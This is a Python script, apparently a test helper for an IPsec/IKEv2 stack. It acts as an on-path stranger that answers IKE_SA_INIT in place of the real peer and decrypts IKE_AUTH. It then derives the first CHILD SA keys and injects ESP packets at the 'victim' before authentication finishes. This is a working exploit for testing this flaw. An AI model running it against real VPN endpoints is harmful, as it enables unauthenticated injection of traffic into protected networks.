#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""
A stranger on the path, without any secret: it answers IKE_SA_INIT in the place of the peer, and
so knows the keys of the IKE SA. It reads the SPI and the first proposal out of IKE_AUTH, derives
the keys of the first CHILD SA (RFC 7296 2.17), and sends ESP with them. It never answers IKE_AUTH.
It knows one proposal: aes128gcm16-prfsha256-x25519, and ESP with aes128gcm16.

usage: stranger.py OWN-ADDRESS COUNT INNER-SOURCE INNER-DESTINATION PORT

It prints the SPI and ends when it has sent COUNT packets.
"""
import hashlib
import hmac
import os
import socket
import struct
import sys
import time

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import ipsec

SA_INIT, AUTH = 34, 35
SA, KE, NONCE, SK, NONE = 33, 34, 40, 46, 0
X25519 = 31
RESPONSE = 0x20


def prf(key, data):
	return hmac.new(key, data, hashlib.sha256).digest()


def prf_plus(key, seed, length):
	"""RFC 7296 2.13"""
	out = t = b""
	n = 0
	while len(out) < length:
		n += 1
		t = prf(key, t + seed + bytes((n,)))
		out += t
	return out[:length]


def payloads(first, data):
	"""{type: body} of a chain; of several of a type, the first"""
	out = {}
	while first and data:
		following, _, length = struct.unpack_from("!BBH", data)
		out.setdefault(first, data[4:length])
		first, data = following, data[length:]
	return out


def chain(*parts):
	"""the payloads, each naming the type of the next"""
	out = b""
	for i, (_, body) in enumerate(parts):
		following = parts[i + 1][0] if i + 1 < len(parts) else NONE
		out += struct.pack("!BBH", following, 0, 4 + len(body)) + body
	return parts[0][0], out


class Stranger:
	def __init__(self, message):
		"""@message: an IKE_SA_INIT request"""
		self.spi_i, self.spi_r = message[:8], os.urandom(8)
		got = payloads(message[16], message[28:])
		private = X25519PrivateKey.generate()
		shared = private.exchange(X25519PublicKey.from_public_bytes(got[KE][4:]))
		self.nonces = got[NONCE] + os.urandom(32)
		# one proposal with one transform of each type: what was offered is what is chosen
		public = private.public_key().public_bytes(serialization.Encoding.Raw,
							   serialization.PublicFormat.Raw)
		first, body = chain((SA, got[SA]), (KE, struct.pack("!HH", X25519, 0) + public),
				    (NONCE, self.nonces[len(got[NONCE]):]))
		self.answer = struct.pack("!8s8sBBBBII", self.spi_i, self.spi_r, first, 0x20, SA_INIT,
					  RESPONSE, 0, 28 + len(body)) + body
		seed = prf(self.nonces, shared)
		# RFC 7296 2.14, RFC 5282: SK_d, no SK_a, then SK_ei with its salt
		keys = prf_plus(seed, self.nonces + self.spi_i + self.spi_r, 32 + 20)
		self.d, self.ei, self.salt = keys[:32], keys[32:48], keys[48:52]

	def open(self, message):
		"""the payloads of an IKE_AUTH request"""
		sk = message[28:]
		first, _, length = struct.unpack_from("!BBH", sk)
		iv, data = sk[4:12], sk[12:length]
		text = AESGCM(self.ei).decrypt(self.salt + iv, data, message[:28] + sk[:4])
		return payloads(first, text[:-1 - text[-1]])

	def esp(self, spi):
		"""the SA from the responder to the initiator"""
		keys = prf_plus(self.d, self.nonces, 40)
		return ipsec.Sa("aes128gcm16", spi, key=keys[20:36], salt=keys[36:40])


def main():
	own, count, src, dst, port = sys.argv[1], int(sys.argv[2]), *sys.argv[3:5], int(sys.argv[5])
	ike = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
	ike.bind((own, 500))
	ike.settimeout(60)
	us = None
	while True:
		message, victim = ike.recvfrom(65535)
		if message[18] == SA_INIT:
			us = Stranger(message)
			ike.sendto(us.answer, victim)
		elif message[18] == AUTH and us and message[:8] == us.spi_i:
			break
	spi, = struct.unpack_from("!I", us.open(message)[SA], 8)
	sa = us.esp(spi)
	inner = ipsec.ipv4(socket.inet_aton(src), socket.inet_aton(dst), ipsec.UDP,
			   ipsec.udp(socket.inet_aton(src), socket.inet_aton(dst), 9, port, b"from a stranger"))
	raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, ipsec.ESP)
	raw.bind((own, 0))
	print("%#010x" % spi, flush=True)
	for seq in range(1, count + 1):
		raw.sendto(sa.seal(seq, inner, ipsec.IPIP), (victim[0], 0))
		time.sleep(0.01)


main()
